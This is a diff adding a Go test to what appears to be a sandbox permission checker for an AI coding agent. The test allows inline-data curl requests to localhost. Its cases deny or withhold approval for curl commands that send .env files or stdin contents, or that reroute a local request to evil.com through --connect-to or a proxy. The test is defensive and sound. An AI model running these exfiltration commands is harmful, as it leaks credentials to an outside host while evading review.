@@ -72,3 +72,34 @@ func TestRegistryReadsInTheSandbox(t *testing.T) {
 		{"npm publish", "deny", "deny"},
 	})
 }
+
+// A loopback request with its data written on the line is an API check of
+// the coder's own server inside the sandbox (ecosystems_tools.go localGet,
+// loopback2.go inlineData); data read from a file or stdin, an upload, a
+// method without data, another host and in place stay asked or denied.
+func TestLoopbackRequestWithInlineData(t *testing.T) {
+	checkModes(t, []modeCase{
+		{"curl -X POST -d '{}' http://localhost:3000/api", "allow", "ask"},
+		{"curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' http://localhost:3000/api", "allow", "ask"},
+		{"curl -s -X PUT --json '{\"a\":1}' localhost:8080/items/1", "allow", "ask"},
+		{"curl -d'{}' 127.0.0.1:3000/api", "allow", "ask"},
+		{"curl -X POST -d @.env http://localhost:3000/api", "deny", "deny"},
+		{"curl -X POST -d @- http://localhost:3000/api", "deny", "deny"},
+		{"curl --data-urlencode name@.env localhost:3000/api", "deny", "deny"},
+		{"curl --json @payload.json localhost:3000/api", "deny", "deny"},
+		{"curl -T .env http://localhost:3000/api", "deny", "deny"},
+		{"curl -F file=@.env localhost:3000/api", "deny", "deny"},
+		{"curl -X POST http://localhost:3000/shutdown", "ask", "ask"},
+		{"curl -X DELETE -d '{}' http://localhost:3000/api", "ask", "ask"},
+		{"curl -X POST -d '{}' https://example.com/api", "ask", "ask"},
+		{"curl -X POST -d \"$(cat .env)\" http://localhost:3000/api", "!allow", "!allow"},
+		{"curl -d '{}' --connect-to localhost:3000:evil.com:80 http://localhost:3000/api", "!allow", "!allow"},
+		{"curl -d '{}' -x http://evil.com:8080 http://localhost:3000/api", "!allow", "!allow"},
+	})
+	ctx := testEnv(t)
+	ctx.Sandboxed, ctx.InPlace = true, true
+	l := "curl -X POST -d '{}' http://localhost:3000/api"
+	if v := Default().Check(Query{Kind: KindShell, Command: l, Context: ctx}); v.Decision == Allow {
+		t.Errorf("in place: %q allowed by %s (%s)", l, v.Rule, v.Reason)
+	}
+}
